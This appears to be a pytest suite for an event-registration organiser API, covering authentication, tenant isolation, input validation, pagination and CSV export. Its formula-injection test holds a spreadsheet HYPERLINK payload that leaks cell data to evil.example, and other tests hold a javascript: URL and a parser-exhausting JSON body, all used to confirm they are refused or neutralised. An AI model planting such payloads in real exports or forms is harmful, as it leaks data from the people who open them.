"""Organiser API (/api/v1, bearer token): events, sessions, rates, the roster, single registrations.

Every refusal is checked against the contract's error body with ``assert_error``.
"""
from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
from typing import Any

import pytest
from flask.testing import FlaskClient

from tests.support.assertions import assert_error
from tests.support.factories import create_event, event_payload, iso, sign_up

CSV_HEADER = ["id", "reference", "status", "email", "given_name", "family_name", "rate", "amount_due", "amount_paid",
              "amount_refunded", "currency", "payment_method", "invoice_number", "receipt_number", "created_at",
              "updated_at"]
ROSTER_ITEM_KEYS = {"id", "reference", "status", "email", "given_name", "family_name", "rate", "amount_paid",
                    "currency", "created_at", "updated_at"}
MISSING = object()


def utc(value: str) -> dt.datetime:
    return dt.datetime.fromisoformat(value).astimezone(dt.UTC)


def roster(client: FlaskClient, auth: dict[str, str], slug: str, **query: Any) -> Any:
    return client.get(f"/api/v1/events/{slug}/registrations", query_string=query, headers=auth)


def csv_rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def session_payload(event: dict[str, Any], **overrides: Any) -> dict[str, Any]:
    payload = {"code": "S1", "title": "Opening lecture", "starts_at": event["starts_at"],
               "ends_at": event["ends_at"], "capacity": 50, "credits": "1.5"}
    payload.update(overrides)
    return {k: v for k, v in payload.items() if v is not MISSING}


def rate_payload(**overrides: Any) -> dict[str, Any]:
    payload = {"code": "member", "name": "Members", "amount": 0, "currency": "EUR", "category": "member"}
    payload.update(overrides)
    return {k: v for k, v in payload.items() if v is not MISSING}


# --- events -------------------------------------------------------------------------


def test_create_event_returns_201_with_the_event(client, auth):
    payload = event_payload(kind="conference", venue="Austria Center Vienna", join_url=None, capacity=300,
                            starts_at="2031-03-04T09:00:00+01:00", ends_at="2031-03-07T18:00:00+01:00",
                            registration_opens_at="2030-09-01T00:00:00+02:00",
                            registration_closes_at="2031-03-01T00:00:00+01:00")
    response = client.post("/api/v1/events", json=payload, headers=auth)

    assert response.status_code == 201, response.get_json()
    event = response.get_json()
    assert event["slug"] == payload["slug"] and event["title"] == payload["title"]
    assert event["kind"] == "conference" and event["venue"] == "Austria Center Vienna"
    assert event["capacity"] == 300 and event["seats_taken"] == 0 and event["currency"] == "EUR"
    assert event["timezone"] == "Europe/Vienna"
    assert utc(event["starts_at"]) == dt.datetime(2031, 3, 4, 8, tzinfo=dt.UTC)
    assert utc(event["registration_opens_at"]) == dt.datetime(2030, 8, 31, 22, tzinfo=dt.UTC)
    assert event["sessions"] == [] and event["rates"] == []
    assert event["public_url"].endswith(f"/events/{payload['slug']}")
    assert event["consent_text"]

    fetched = client.get(f"/api/v1/events/{payload['slug']}", headers=auth).get_json()
    assert fetched["slug"] == event["slug"]
    assert utc(fetched["starts_at"]) == utc(event["starts_at"])
    assert utc(fetched["ends_at"]) == utc(event["ends_at"])


def test_capacity_null_means_unlimited(client, auth):
    event = create_event(client, auth, capacity=None)
    assert event["capacity"] is None
    statuses = {sign_up(client, event["slug"])["status"] for _ in range(5)}
    assert statuses == {"confirmed"}


def test_list_events_shows_only_the_tokens_organisation(client, auth, other_token):
    mine = create_event(client, auth, rate=None)
    theirs = create_event(client, {"Authorization": f"Bearer {other_token}"}, rate=None)

    response = client.get("/api/v1/events", headers=auth)
    assert response.status_code == 200
    slugs = [item["slug"] for item in response.get_json()["items"]]
    assert mine["slug"] in slugs and theirs["slug"] not in slugs


def test_unknown_event_is_404(client, auth):
    assert_error(client.get("/api/v1/events/no-such-event", headers=auth), 404, "not_found")
    assert_error(client.get("/api/v1/events/NOT%20A%20SLUG", headers=auth), 404, "not_found")


def _without(field: str) -> dict[str, Any]:
    payload = event_payload()
    del payload[field]
    return payload


@pytest.mark.parametrize("overrides, field", [
    ({"title": 123}, "title"),
    ({"title": ""}, "title"),
    ({"title": "   "}, "title"),
    ({"title": "x" * 201}, "title"),
    ({"title": "bell\x07"}, "title"),
    ({"venue": "v" * 301}, "venue"),
    ({"description": "d" * 5001}, "description"),
    ({"slug": "Not A Slug"}, "slug"),
    ({"slug": "s" * 65}, "slug"),
    ({"slug": "-leading-hyphen"}, "slug"),
    ({"slug": 42}, "slug"),
    ({"kind": "seminar"}, "kind"),
    ({"capacity": "ten"}, "capacity"),
    ({"capacity": -1}, "capacity"),
    ({"capacity": 1.5}, "capacity"),
    ({"capacity": True}, "capacity"),
    ({"capacity": 10**12}, "capacity"),
    ({"currency": "euro"}, "currency"),
    ({"timezone": "Mars/Olympus_Mons"}, "timezone"),
    ({"timezone": "europe/vienna"}, "timezone"),
    ({"timezone": ""}, "timezone"),
    ({"starts_at": "next Tuesday"}, "starts_at"),
    ({"starts_at": 1767225600}, "starts_at"),
    ({"starts_at": "2031-03-04T09:00:00"}, "starts_at"),  # no offset
    ({"ends_at": "2031-03-04"}, "ends_at"),
    ({"starts_at": "2031-03-04T09:00:00+01:00", "ends_at": "2031-03-04T08:00:00+01:00"}, "ends_at"),
    ({"starts_at": "2031-03-04T09:00:00+01:00", "ends_at": "2031-03-04T09:00:00+01:00"}, "ends_at"),
    ({"registration_opens_at": "2031-01-01T00:00:00+00:00",
      "registration_closes_at": "2030-12-31T00:00:00+00:00"}, "registration_closes_at"),
    ({"registration_opens_at": "2031-01-01T00:00:00"}, "registration_opens_at"),
    ({"ends_at": "9999-12-31T23:30:00-01:00"}, "ends_at"),  # overflows when converted to UTC
    ({"starts_at": "0001-01-01T00:30:00+01:00"}, "starts_at"),
    ({"join_url": "not a url"}, "join_url"),
    ({"join_url": "javascript:alert(1)"}, "join_url"),
    ({"join_url": "https://zoom.us/j/" + "1" * 500}, "join_url"),
    ({"colour": "red"}, "colour"),
    ({"seats_taken": 5}, "seats_taken"),
])
def test_create_event_refuses_bad_input(client, auth, overrides, field):
    response = client.post("/api/v1/events", json=event_payload(**overrides), headers=auth)
    assert_error(response, 422, "validation_error", field)


@pytest.mark.parametrize("field", ["slug", "title", "kind", "starts_at", "ends_at", "timezone", "capacity",
                                   "currency"])
def test_create_event_requires_field(client, auth, field):
    response = client.post("/api/v1/events", json=_without(field), headers=auth)
    assert_error(response, 422, "validation_error", field)


def test_optional_event_fields_may_be_left_out(client, auth):
    payload = event_payload()
    for key in ("join_url",):
        del payload[key]
    assert client.post("/api/v1/events", json=payload, headers=auth).status_code == 201


def test_duplicate_slug_is_409(client, auth, other_token):
    event = create_event(client, auth, rate=None)
    again = client.post("/api/v1/events", json=event_payload(slug=event["slug"]), headers=auth)
    assert_error(again, 409, "conflict", "slug")
    # Slugs address public pages, so they are unique across organisations too.
    theirs = client.post("/api/v1/events", json=event_payload(slug=event["slug"]),
                         headers={"Authorization": f"Bearer {other_token}"})
    assert_error(theirs, 409, "conflict", "slug")
    assert client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()["title"] == event["title"]


@pytest.mark.parametrize("body", [
    "{not json",
    '{"slug": "a",}',
    "[" * 100_000,  # deep enough to exhaust the parser's recursion
    '{"capacity": NaN}',
    '{"capacity": Infinity}',
    '{"title": "\\ud800"}',  # an unpaired surrogate cannot be stored as UTF-8
    b"\xff\xfe\x00",
])
def test_malformed_json_body_is_400(client, auth, body):
    response = client.post("/api/v1/events", data=body, content_type="application/json", headers=auth)
    assert_error(response, 400, "bad_request")


@pytest.mark.parametrize("body", ["[]", "[1, 2]", '"event"', "42", "null", "true"])
def test_json_that_is_not_an_object_is_refused(client, auth, body):
    response = client.post("/api/v1/events", data=body, content_type="application/json", headers=auth)
    assert_error(response, 422, "validation_error")


def test_body_that_is_not_json_is_refused(client, auth):
    response = client.post("/api/v1/events", data="slug=x&title=y", content_type="application/x-www-form-urlencoded",
                           headers=auth)
    assert_error(response, 422, "validation_error", "slug")


# --- authentication and isolation ----------------------------------------------------


def _organiser_endpoints(slug: str, registration_id: int) -> list[tuple[str, str, dict[str, Any] | None]]:
    return [
        ("POST", "/api/v1/events", event_payload()),
        ("GET", "/api/v1/events", None),
        ("GET", f"/api/v1/events/{slug}", None),
        ("PATCH", f"/api/v1/events/{slug}", {"title": "Hijacked"}),
        ("POST", f"/api/v1/events/{slug}/sessions", {"code": "X", "title": "X", "starts_at": iso(days=10),
                                                      "ends_at": iso(days=10, hours=1), "credits": "1"}),
        ("POST", f"/api/v1/events/{slug}/rates", rate_payload()),
        ("GET", f"/api/v1/events/{slug}/registrations", None),
        ("GET", f"/api/v1/events/{slug}/registrations?format=csv", None),
        ("GET", f"/api/v1/registrations/{registration_id}", None),
        ("POST", f"/api/v1/registrations/{registration_id}/cancel", None),
    ]


@pytest.mark.parametrize("authorization", [
    None, "", "Bearer", "Bearer ", "Bearer sto_not-a-real-token", "Basic dXNlcjpwYXNz", "sto_no-scheme",
])
def test_every_organiser_endpoint_requires_a_valid_token(client, auth, authorization):
    event = create_event(client, auth)
    registration = sign_up(client, event["slug"])
    headers = {} if authorization is None else {"Authorization": authorization}
    for method, path, body in _organiser_endpoints(event["slug"], registration["id"]):
        response = client.open(path, method=method, json=body, headers=headers)
        assert_error(response, 401, "unauthorized")
        assert response.headers["WWW-Authenticate"].startswith("Bearer"), (method, path)
    # Nothing was changed by the refused calls.
    assert client.get(f"/api/v1/registrations/{registration['id']}", headers=auth).get_json()["status"] == "confirmed"


def test_token_is_checked_before_the_body(client):
    response = client.post("/api/v1/events", data="{broken", content_type="application/json")
    assert_error(response, 401, "unauthorized")


def test_another_organisations_event_is_404_everywhere(client, auth, other_token):
    event = create_event(client, auth)
    registration = sign_up(client, event["slug"])
    theirs = {"Authorization": f"Bearer {other_token}"}
    for method, path, body in _organiser_endpoints(event["slug"], registration["id"])[2:]:
        response = client.open(path, method=method, json=body, headers=theirs)
        assert_error(response, 404, "not_found")
    listed = client.get("/api/v1/events", headers=theirs).get_json()["items"]
    assert event["slug"] not in [item["slug"] for item in listed]
    # ...and the owner sees it unchanged.
    mine = client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()
    assert mine["title"] == event["title"] and mine["sessions"] == [] and len(mine["rates"]) == 1
    assert client.get(f"/api/v1/registrations/{registration['id']}", headers=auth).get_json()["status"] == "confirmed"


# --- sessions ------------------------------------------------------------------------


def test_add_session(client, auth):
    event = create_event(client, auth, rate=None)
    response = client.post(f"/api/v1/events/{event['slug']}/sessions", json=session_payload(event), headers=auth)
    assert response.status_code == 201, response.get_json()
    item = response.get_json()
    assert item["code"] == "S1" and item["credits"] == "1.50" and item["capacity"] == 50
    assert utc(item["starts_at"]) == utc(event["starts_at"])

    sessions = client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()["sessions"]
    assert [s["code"] for s in sessions] == ["S1"]


@pytest.mark.parametrize("overrides, field", [
    ({"credits": "abc"}, "credits"),
    ({"credits": -1}, "credits"),
    ({"credits": 101}, "credits"),
    ({"credits": "1e999999"}, "credits"),
    ({"credits": MISSING}, "credits"),
    ({"code": "has space"}, "code"),
    ({"code": MISSING}, "code"),
    ({"title": "t" * 201}, "title"),
    ({"capacity": -1}, "capacity"),
    ({"capacity": "many"}, "capacity"),
    ({"starts_at": "2031-03-04T09:00:00"}, "starts_at"),
    ({"room": "A"}, "room"),
])
def test_add_session_refuses_bad_input(client, auth, overrides, field):
    event = create_event(client, auth, rate=None)
    response = client.post(f"/api/v1/events/{event['slug']}/sessions", json=session_payload(event, **overrides),
                           headers=auth)
    assert_error(response, 422, "validation_error", field)


def test_session_must_end_after_it_starts_and_lie_within_the_event(client, auth):
    event = create_event(client, auth, rate=None)
    start = utc(event["starts_at"])
    backwards = session_payload(event, starts_at=(start + dt.timedelta(hours=1)).isoformat(),
                                ends_at=start.isoformat())
    assert_error(client.post(f"/api/v1/events/{event['slug']}/sessions", json=backwards, headers=auth),
                 422, "validation_error", "ends_at")
    outside = session_payload(event, starts_at=(start - dt.timedelta(hours=1)).isoformat())
    assert_error(client.post(f"/api/v1/events/{event['slug']}/sessions", json=outside, headers=auth),
                 422, "validation_error", "starts_at")


def test_duplicate_session_code_is_409(client, auth):
    event = create_event(client, auth, rate=None)
    path = f"/api/v1/events/{event['slug']}/sessions"
    assert client.post(path, json=session_payload(event), headers=auth).status_code == 201
    assert_error(client.post(path, json=session_payload(event, title="Other"), headers=auth), 409, "conflict", "code")


# --- rates ---------------------------------------------------------------------------


def test_add_rate(client, auth):
    event = create_event(client, auth, rate=None)
    until = iso(days=5)
    response = client.post(f"/api/v1/events/{event['slug']}/rates", json=rate_payload(valid_until=until),
                           headers=auth)
    assert response.status_code == 201, response.get_json()
    rate = response.get_json()
    assert rate == {"code": "member", "name": "Members", "amount": 0, "currency": "EUR", "category": "member",
                    "valid_until": rate["valid_until"], "requires_membership": True, "requires_approval": False, "translations": {}}
    assert utc(rate["valid_until"]) == utc(until)
    rates = client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()["rates"]
    assert [r["code"] for r in rates] == ["member"]


@pytest.mark.parametrize("overrides, field", [
    ({"amount": "0"}, "amount"),
    ({"amount": -1}, "amount"),
    ({"amount": 1.5}, "amount"),
    ({"amount": MISSING}, "amount"),
    ({"category": "vip"}, "category"),
    ({"currency": "USD"}, "currency"),  # not the event's currency
    ({"currency": "usd"}, "currency"),
    ({"name": MISSING}, "name"),
    ({"name": "n" * 201}, "name"),
    ({"code": "no/slash"}, "code"),
    ({"valid_until": "2031-01-01T00:00:00"}, "valid_until"),
    ({"discount": 10}, "discount"),
])
def test_add_rate_refuses_bad_input(client, auth, overrides, field):
    event = create_event(client, auth, rate=None)
    response = client.post(f"/api/v1/events/{event['slug']}/rates", json=rate_payload(**overrides), headers=auth)
    assert_error(response, 422, "validation_error", field)


def test_duplicate_rate_code_is_409(client, auth):
    event = create_event(client, auth, rate=None)
    path = f"/api/v1/events/{event['slug']}/rates"
    assert client.post(path, json=rate_payload(), headers=auth).status_code == 201
    assert_error(client.post(path, json=rate_payload(name="Again"), headers=auth), 409, "conflict", "code")


# --- PATCH ---------------------------------------------------------------------------


def test_patch_moves_the_event(client, auth):
    event = create_event(client, auth)
    new_start, new_end = "2032-05-01T14:00:00+02:00", "2032-05-01T16:30:00+02:00"
    response = client.patch(f"/api/v1/events/{event['slug']}", headers=auth, json={
        "starts_at": new_start, "ends_at": new_end, "title": "AI in chest CT (rescheduled)",
        "timezone": "Europe/Berlin"})
    assert response.status_code == 200, response.get_json()
    patched = response.get_json()
    assert utc(patched["starts_at"]) == utc(new_start) and utc(patched["ends_at"]) == utc(new_end)
    assert patched["title"] == "AI in chest CT (rescheduled)" and patched["timezone"] == "Europe/Berlin"
    assert patched["slug"] == event["slug"] and patched["capacity"] == event["capacity"]

    fetched = client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()
    assert utc(fetched["starts_at"]) == utc(new_start) and fetched["timezone"] == "Europe/Berlin"


def test_patch_checks_the_merged_times(client, auth):
    event = create_event(client, auth)
    before_start = (utc(event["starts_at"]) - dt.timedelta(hours=1)).isoformat()
    assert_error(client.patch(f"/api/v1/events/{event['slug']}", json={"ends_at": before_start}, headers=auth),
                 422, "validation_error", "ends_at")
    response = client.patch(f"/api/v1/events/{event['slug']}", headers=auth,
                            json={"registration_opens_at": iso(days=2), "registration_closes_at": iso(days=1)})
    assert_error(response, 422, "validation_error", "registration_closes_at")
    client.patch(f"/api/v1/events/{event['slug']}", json={"registration_opens_at": iso(days=2)}, headers=auth)
    response = client.patch(f"/api/v1/events/{event['slug']}", json={"registration_closes_at": iso(days=1)},
                            headers=auth)
    assert_error(response, 422, "validation_error", "registration_closes_at")
    unchanged = client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()
    assert utc(unchanged["ends_at"]) == utc(event["ends_at"]) and unchanged["registration_closes_at"] is None


def test_raising_capacity_promotes_the_waiting_list_in_arrival_order(client, auth):
    event = create_event(client, auth, capacity=1)
    people = [sign_up(client, event["slug"]) for _ in range(5)]
    assert [p["status"] for p in people] == ["confirmed"] + ["waitlisted"] * 4
    assert [p["waitlist_position"] for p in people[1:]] == [1, 2, 3, 4]

    response = client.patch(f"/api/v1/events/{event['slug']}", json={"capacity": 3}, headers=auth)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["capacity"] == 3 and response.get_json()["seats_taken"] == 3

    statuses = [client.get(f"/api/v1/registrations/{p['id']}", headers=auth).get_json()["status"] for p in people]
    assert statuses == ["confirmed", "confirmed", "confirmed", "waitlisted", "waitlisted"]

    # Unlimited takes everyone; lowering again takes no seat away.
    client.patch(f"/api/v1/events/{event['slug']}", json={"capacity": None}, headers=auth)
    response = client.patch(f"/api/v1/events/{event['slug']}", json={"capacity": 1}, headers=auth)
    assert response.get_json()["seats_taken"] == 5
    items = roster(client, auth, event["slug"]).get_json()["items"]
    assert {item["status"] for item in items} == {"confirmed"}


@pytest.mark.parametrize("changes, field", [
    ({"slug": "renamed"}, "slug"),
    ({"capacity": -1}, "capacity"),
    ({"capacity": "more"}, "capacity"),
    ({"timezone": "Atlantis/Capital"}, "timezone"),
    ({"starts_at": "2032-05-01T14:00:00"}, "starts_at"),
    ({"starts_at": None}, "starts_at"),
    ({"title": ""}, "title"),
    ({"seats_taken": 0}, "seats_taken"),
])
def test_patch_refuses_bad_input(client, auth, changes, field):
    event = create_event(client, auth)
    response = client.patch(f"/api/v1/events/{event['slug']}", json=changes, headers=auth)
    assert_error(response, 422, "validation_error", field)
    assert client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()["slug"] == event["slug"]


def test_patch_refuses_malformed_and_non_object_json(client, auth):
    event = create_event(client, auth)
    path = f"/api/v1/events/{event['slug']}"
    assert_error(client.patch(path, data="{oops", content_type="application/json", headers=auth), 400, "bad_request")
    assert_error(client.patch(path, data="[1]", content_type="application/json", headers=auth),
                 422, "validation_error")
    assert_error(client.patch("/api/v1/events/unknown-event", json={"title": "X"}, headers=auth), 404, "not_found")


# --- the roster ----------------------------------------------------------------------


def test_roster_items_have_the_contract_fields(client, auth):
    event = create_event(client, auth)
    person = sign_up(client, event["slug"], email="Anna.Berg@Hospital.example")
    response = roster(client, auth, event["slug"])
    assert response.status_code == 200
    page = response.get_json()
    assert page["next_cursor"] is None
    (item,) = page["items"]
    assert set(item) >= ROSTER_ITEM_KEYS
    assert item["id"] == person["id"] and item["reference"] == person["reference"]
    assert item["email"] == "Anna.Berg@Hospital.example"
    assert item["rate"] == "free" and item["amount_paid"] == 0 and item["currency"] == "EUR"
    assert item["status"] == "confirmed"


def test_roster_cursor_walks_every_item_exactly_once(client, auth):
    event = create_event(client, auth)
    ids = [sign_up(client, event["slug"])["id"] for _ in range(5)]
    seen: list[int] = []
    cursor = None
    pages = 0
    while True:
        query: dict[str, Any] = {"limit": 2}
        if cursor:
            query["cursor"] = cursor
        page = roster(client, auth, event["slug"], **query).get_json()
        pages += 1
        assert len(page["items"]) <= 2
        seen.extend(item["id"] for item in page["items"])
        cursor = page["next_cursor"]
        if cursor is None:
            break
        assert pages < 10, "the cursor does not advance"
    assert seen == ids and pages == 3


def test_roster_page_of_exactly_limit_items_has_no_next_cursor(client, auth):
    event = create_event(client, auth)
    for _ in range(2):
        sign_up(client, event["slug"])
    page = roster(client, auth, event["slug"], limit=2).get_json()
    assert len(page["items"]) == 2 and page["next_cursor"] is None


def test_roster_filters_by_status_and_rate(client, auth):
    event = create_event(client, auth, capacity=2)
    client.post(f"/api/v1/events/{event['slug']}/rates", json=rate_payload(code="trainee", category="trainee", requires_approval=False),
                headers=auth)
    first, second = sign_up(client, event["slug"]), sign_up(client, event["slug"], rate="trainee")
    third = sign_up(client, event["slug"])
    assert third["status"] == "waitlisted"
    client.post(f"/api/v1/registrations/{first['id']}/cancel", headers=auth)  # promotes third

    def ids(**query: Any) -> list[int]:
        return [item["id"] for item in roster(client, auth, event["slug"], **query).get_json()["items"]]

    assert ids(status="cancelled") == [first["id"]]
    assert ids(status="confirmed") == [second["id"], third["id"]]
    assert ids(status="waitlisted") == []
    assert ids(rate="trainee") == [second["id"]]
    assert ids(rate="free", status="confirmed") == [third["id"]]
    assert ids(rate="unknown-rate") == []


def test_roster_updated_since(client, auth):
    event = create_event(client, auth)
    people = [sign_up(client, event["slug"]) for _ in range(3)]
    everyone = roster(client, auth, event["slug"], updated_since="2000-01-01T00:00:00+00:00").get_json()["items"]
    assert len(everyone) == 3
    since = dt.datetime.now(dt.UTC)
    client.post(f"/api/v1/registrations/{people[1]['id']}/cancel", headers=auth)

    changed = roster(client, auth, event["slug"], updated_since=since.isoformat()).get_json()["items"]
    assert [item["id"] for item in changed] == [people[1]["id"]]
    assert utc(changed[0]["updated_at"]) >= since
    # The same moment written with another offset selects the same rows.
    vienna = since.astimezone(dt.timezone(dt.timedelta(hours=1))).isoformat()
    assert [i["id"] for i in roster(client, auth, event["slug"], updated_since=vienna).get_json()["items"]] == [
        people[1]["id"]]


@pytest.mark.parametrize("query, field", [
    ({"status": "pending"}, "status"),
    ({"limit": 0}, "limit"),
    ({"limit": 1001}, "limit"),
    ({"limit": "all"}, "limit"),
    ({"format": "xlsx"}, "format"),
    ({"bom": "maybe"}, "bom"),
    ({"updated_since": "yesterday"}, "updated_since"),
    ({"updated_since": "2031-01-01T00:00:00"}, "updated_since"),
    ({"rate": "a\x00b"}, "rate"),
    ({"cursor": "x" * 201}, "cursor"),
])
def test_roster_refuses_bad_query(client, auth, query, field):
    event = create_event(client, auth)
    assert_error(roster(client, auth, event["slug"], **query), 422, "validation_error", field)


def _cursor(payload: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(payload).encode()).decode().rstrip("=")


@pytest.mark.parametrize("cursor", [
    "garbage", "!!!!", "e30", _cursor({"after": "1"}), _cursor({"after": True}), _cursor({"after": -1}),
    _cursor({"after": 2**63}), _cursor({"after": 10**30}), _cursor([1]), _cursor({"before": 1}),
    base64.urlsafe_b64encode(b"\xff\xfe").decode(),
])
def test_roster_invalid_cursor_is_422(client, auth, cursor):
    event = create_event(client, auth)
    sign_up(client, event["slug"])
    assert_error(roster(client, auth, event["slug"], cursor=cursor), 422, "validation_error", "cursor")
    assert_error(roster(client, auth, event["slug"], cursor=cursor, format="csv"), 422, "validation_error", "cursor")


def test_roster_csv_is_streamed_with_a_header_row(client, auth):
    event = create_event(client, auth)
    people = [sign_up(client, event["slug"]) for _ in range(3)]
    response = roster(client, auth, event["slug"], format="csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.is_streamed
    assert "attachment" in response.headers["Content-Disposition"]
    assert f"{event['slug']}" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert not text.startswith("\ufeff")
    rows = csv_rows(response)
    assert rows[0] == CSV_HEADER
    assert [int(row[0]) for row in rows[1:]] == [p["id"] for p in people]
    assert {row[2] for row in rows[1:]} == {"confirmed"} and {row[6] for row in rows[1:]} == {"free"}


def test_roster_csv_of_an_empty_event_is_just_the_header(client, auth):
    event = create_event(client, auth)
    assert csv_rows(roster(client, auth, event["slug"], format="csv")) == [CSV_HEADER]


def test_roster_csv_bom(client, auth):
    event = create_event(client, auth)
    sign_up(client, event["slug"])
    response = roster(client, auth, event["slug"], format="csv", bom="true")
    assert response.get_data().startswith(b"\xef\xbb\xbf")
    assert csv_rows(response)[0] == CSV_HEADER


def test_roster_csv_by_accept_header(client, auth):
    event = create_event(client, auth)
    sign_up(client, event["slug"])
    response = client.get(f"/api/v1/events/{event['slug']}/registrations", headers={**auth, "Accept": "text/csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert csv_rows(response)[0] == CSV_HEADER
    # An explicit format wins over the Accept header.
    response = client.get(f"/api/v1/events/{event['slug']}/registrations?format=json",
                          headers={**auth, "Accept": "text/csv"})
    assert response.mimetype == "application/json" and len(response.get_json()["items"]) == 1


def test_roster_csv_honours_filters(client, auth):
    event = create_event(client, auth)
    first, second = sign_up(client, event["slug"]), sign_up(client, event["slug"])
    client.post(f"/api/v1/registrations/{first['id']}/cancel", headers=auth)
    rows = csv_rows(roster(client, auth, event["slug"], format="csv", status="confirmed"))
    assert [int(row[0]) for row in rows[1:]] == [second["id"]]


FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "family_name": "+SUM(1,2)",
}


def test_roster_csv_neutralises_formulas(client, auth):
    event = create_event(client, auth)
    person = sign_up(client, event["slug"], **FORMULAS)
    others = [sign_up(client, event["slug"], given_name="-2+3", family_name="@SUM(A1)"),
              sign_up(client, event["slug"], email="-oops@hospital.example")]

    rows = {int(row[0]): dict(zip(CSV_HEADER, row, strict=True))
            for row in csv_rows(roster(client, auth, event["slug"], format="csv"))[1:]}
    assert rows[person["id"]]["given_name"] == "'" + FORMULAS["given_name"]
    assert rows[person["id"]]["family_name"] == "'+SUM(1,2)"
    assert rows[others[0]["id"]]["given_name"] == "'-2+3"
    assert rows[others[0]["id"]]["family_name"] == "'@SUM(A1)"
    assert rows[others[1]["id"]]["email"] == "'-oops@hospital.example"
    for row in rows.values():  # nothing else is touched
        assert not row["reference"].startswith("'") and not row["created_at"].startswith("'")

    # The JSON roster and the registration itself keep the name exactly as typed.
    item = client.get(f"/api/v1/registrations/{person['id']}", headers=auth).get_json()
    assert item["given_name"] == FORMULAS["given_name"] and item["family_name"] == FORMULAS["family_name"]


UNICODE_NAMES = [
    ("Zoë", "Łukasiewicz"),
    ("Søren", "Kierkegaard-Ødegård"),
    ("王", "小明"),
    ("Ngọc Anh", "Nguyễn"),
    ("Jose\u0301", "Muñoz y Ñúñez"),  # a decomposed é (e + combining accent) is kept as sent, not normalised
    ("Αλέξανδρος", "Παπαδόπουλος"),
    ("Мария", "Иванова"),
    ("Siân", "O'Brien 🩻"),
]


def test_unicode_names_round_trip_in_json_and_csv(client, auth):
    event = create_event(client, auth, capacity=None)
    ids = {sign_up(client, event["slug"], given_name=given, family_name=family)["id"]: (given, family)
           for given, family in UNICODE_NAMES}

    items = roster(client, auth, event["slug"]).get_json()["items"]
    assert {item["id"]: (item["given_name"], item["family_name"]) for item in items} == ids

    for bom in ("false", "true"):
        rows = csv_rows(roster(client, auth, event["slug"], format="csv", bom=bom))[1:]
        assert {int(row[0]): (row[4], row[5]) for row in rows} == ids


# --- single registrations ------------------------------------------------------------


def test_get_registration(client, auth):
    event = create_event(client, auth)
    person = sign_up(client, event["slug"], answers={"profession": "Radiologist"})
    response = client.get(f"/api/v1/registrations/{person['id']}", headers=auth)
    assert response.status_code == 200
    item = response.get_json()
    assert set(item) >= ROSTER_ITEM_KEYS
    assert item["event"] == event["slug"] and item["reference"] == person["reference"]
    assert item["answers"] == {"profession": "Radiologist"}
    assert item["consent_at"] and item["consent_version"] and item["cancelled_at"] is None


@pytest.mark.parametrize("path", ["/api/v1/registrations/999999", "/api/v1/registrations/99999999999999999999999",
                                  "/api/v1/registrations/abc", "/api/v1/registrations/-1"])
def test_unknown_registration_is_404(client, auth, path):
    assert_error(client.get(path, headers=auth), 404, "not_found")
    assert_error(client.post(path + "/cancel", headers=auth), 404, "not_found")


def test_cancel_registration_is_idempotent_and_frees_the_seat(client, auth):
    event = create_event(client, auth, capacity=1)
    first, second = sign_up(client, event["slug"]), sign_up(client, event["slug"])
    assert second["status"] == "waitlisted"

    response = client.post(f"/api/v1/registrations/{first['id']}/cancel", headers=auth)
    assert response.status_code == 200
    cancelled = response.get_json()
    assert cancelled["status"] == "cancelled" and cancelled["cancelled_at"]

    again = client.post(f"/api/v1/registrations/{first['id']}/cancel", headers=auth)
    assert again.status_code == 200 and again.get_json()["status"] == "cancelled"
    assert again.get_json()["cancelled_at"] == cancelled["cancelled_at"]

    assert client.get(f"/api/v1/registrations/{second['id']}", headers=auth).get_json()["status"] == "confirmed"
    assert client.get(f"/api/v1/events/{event['slug']}", headers=auth).get_json()["seats_taken"] == 1


def test_unknown_api_path_and_method_are_json_errors(client, auth):
    assert_error(client.get("/api/v1/no-such-thing", headers=auth), 404, "not_found")
    response = client.delete("/api/v1/events", headers=auth)
    assert_error(response, 405, "method_not_allowed")
    assert "GET" in response.headers["Allow"]
